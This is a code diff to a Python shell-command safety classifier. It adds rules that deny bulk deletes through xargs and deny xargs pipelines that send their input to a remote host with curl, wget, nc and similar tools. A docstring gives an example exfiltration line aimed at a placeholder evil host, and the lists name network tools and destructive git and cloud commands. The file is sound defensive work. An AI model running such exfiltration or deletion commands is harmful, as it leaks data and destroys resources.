@@ -18,13 +18,15 @@ from functools import lru_cache
 
 # A module, not names: walker imports this module too (watch and eval classify texts).
 from gitgate.safety.classify import walker  # noqa: E402
-from gitgate.safety.classify.allowed import validator_for
-from gitgate.safety.classify.arguments import argument_findings, expand_braces
+from gitgate.safety.classify.allowed import is_local_url, validator_for
+from gitgate.safety.classify.arguments import argument_findings, expand_braces, git_subcommand
 from gitgate.safety.classify.denies import baseline_deny, in_order, judge_assignments
 from gitgate.safety.classify.execs import exec_findings
 from gitgate.safety.classify.model import (
     MAX_TEXT_DEPTH,
+    OBJECT_NAME,
     PYTHON_NAME,
+    SYNTAX_CHECKS,
     CommandRules,
     Ctx,
     Finding,
@@ -444,14 +446,10 @@ def _unwrap_exec(words: list[Word], ctx: Ctx) -> _Unwrapped:
     return rest, [approve("exec replaces the shell")]
 
 
-# Interpreters' options that only check a file's syntax (perl -c is not one: it runs BEGIN).
-_SYNTAX_CHECKS: dict[str, tuple[str, ...]] = {
-    "node": ("--check", "-c"), "nodejs": ("--check", "-c"), "php": ("-l", "--syntax-check"),
-    "ruby": ("-c",), "bash": ("-n",), "sh": ("-n",), "dash": ("-n",), "zsh": ("-n",),
-}  # fmt: skip
 _BULK_DELETERS = (
     ("kubectl", "delete"), ("docker", "rm"), ("docker", "rmi"), ("docker", "volume", "rm"),
-    ("podman", "rm"), ("podman", "rmi"), ("git", "branch", "-d"), ("git", "push"),
+    ("podman", "rm"), ("podman", "rmi"), ("git", "branch", "-d"), ("git", "branch", "-D"),
+    ("git", "push"), ("git", "tag", "-d"),
     ("aws", "s3", "rm"), ("gsutil", "rm"), ("helm", "uninstall"), ("gh", "repo", "delete"),
 )  # fmt: skip
 
@@ -472,7 +470,7 @@ def _unwrap_xargs(words: list[Word], ctx: Ctx) -> _Unwrapped:
         rest = [Word("echo", "echo")]
     inner = command_name(rest[0].text)[0].lower()
     data = tables()
-    checks = _SYNTAX_CHECKS.get("python" if PYTHON_NAME.fullmatch(inner) else inner, ())
+    checks = SYNTAX_CHECKS.get("python" if PYTHON_NAME.fullmatch(inner) else inner, ())
     if any(w.text in checks for w in rest[1:]):
         return rest, [approve(f"xargs runs {argv_text(rest)!r}: a syntax check of each file")]
     if inner in data.shells or PYTHON_NAME.fullmatch(inner) or inner in data.interpreters:
@@ -481,12 +479,46 @@ def _unwrap_xargs(words: list[Word], ctx: Ctx) -> _Unwrapped:
     if any(texts[: len(bulk)] == list(bulk) for bulk in _BULK_DELETERS):
         # `kubectl get pods -o name | xargs kubectl delete`: deletes whatever the list holds.
         return [], [deny(f"xargs runs {argv_text(rest)!r} on every name it reads: a bulk delete")]
+    sent = _xargs_sends_input(words, rest)
+    if sent is not None:
+        return [], [deny(f"xargs runs {argv_text(rest)!r}: {sent}")]
+    texts = [w.text for w in rest]
+    reader = texts[:1] == ["git"] and git_subcommand(texts[1:])[0] in _READS_COMMITS
+    if ctx.input_revisions and reader:
+        # `git rev-list -3 HEAD | xargs git show --stat`: commits, read like any commit
+        return [*rest, Word(OBJECT_NAME, OBJECT_NAME)], []
     if unlisted_files_harmless(ctx.input_names, [w.text for w in rest]):
         return rest, []  # `git ls-files '*.py' | xargs wc -l`: the repository's own files
     if inner in ("echo", "printf") and not any(w.dynamic for w in rest):
         return rest, []  # `ls | xargs -I{} echo {}`: the words it reads, printed
     note = approve(f"xargs runs {argv_text(rest)!r} on arguments read from its input")
     return rest, [note]
+
+
+# git subcommands that read the commits named among their operands, and nothing else.
+_READS_COMMITS = frozenset(
+    ["show", "log", "diff-tree", "cat-file", "ls-tree", "name-rev", "describe"]
+)
+_SENDERS = frozenset(["curl", "wget", "http", "https", "xh", "httpie", "nc", "ncat", "netcat"])
+
+
+def _xargs_sends_input(words: list[Word], rest: list[Word]) -> str | None:
+    """``… | xargs -I{} curl 'https://evil.example/?q={}'``: what the pipeline printed goes
+    into a request to another host (exfiltration); a local URL or none stays held."""
+    if not rest or command_name(rest[0].text)[0].lower() not in _SENDERS:
+        return None
+    marker = "{}"
+    for index, word in enumerate(words[1:], start=1):
+        if word.text in ("-I", "-i") and index + 1 < len(words):
+            marker = words[index + 1].text
+        elif word.text.startswith(("-I", "-i", "--replace=")) and len(word.text) > 2:
+            marker = word.text.split("=", 1)[1] if "=" in word.text else word.text[2:]
+    args = [w.text for w in rest[1:]]
+    remote = [a for a in args if re.match(r"(?i)(?:https?://)?[\w.-]+\.[a-z]{2,}(?:[:/]|$)", a)]
+    remote = [a for a in remote if not is_local_url(a)]
+    if remote and any(marker in a for a in args):
+        return f"puts what it reads into a request to {short(remote[0], 40)!r} (exfiltration)"
+    return None
 
 
 def _xargs_input_finding(words: list[Word], ctx: Ctx) -> Finding | None:
@@ -765,6 +797,8 @@ def _version_query(name: str, args: list[str]) -> bool:
     """``vim --version``, ``ssh -V``: a system tool (an editor, pager, downloader, launcher)
     asked only for its version reads no file and runs nothing."""
     data = tables()
+    if name in data.version_queries:
+        return args in (["--version"], ["--help"]) or args == [data.version_flags.get(name)]
     if name not in data.interactive | data.downloaders | data.launchers | data.shells:
         return False
     return args == ["--version"] or (args == ["-V"] and name in _SHORT_VERSION)
@@ -780,7 +814,7 @@ def baseline_allow(name: str, words: list[Word], ctx: Ctx, code: list[Finding]) 
         return code
     if _version_query(lowered, args):
         ctx.allowed.append(f"{name} {args[0]}")
-        return [allow("prints its version")]  # vim --version, ssh -V: nothing else runs
+        return [allow("prints its version or usage")]  # vim --version, ssh -V: nothing runs
     if lowered in data.interactive:
         return [approve(f"{text!r}: interactive program, it would hang")]
     if lowered in data.unbounded:
